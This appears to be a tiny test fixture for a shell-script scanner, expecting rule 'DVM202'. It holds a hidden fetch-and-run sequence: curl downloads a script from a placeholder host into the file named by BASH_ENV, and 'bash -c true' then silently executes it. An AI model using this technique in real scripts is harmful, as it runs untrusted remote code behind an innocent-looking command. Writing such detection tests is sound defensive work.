# expect: DVM202
BASH_ENV=/tmp/e
curl -fsSLo /tmp/e https://example.org/i.sh
bash -c true
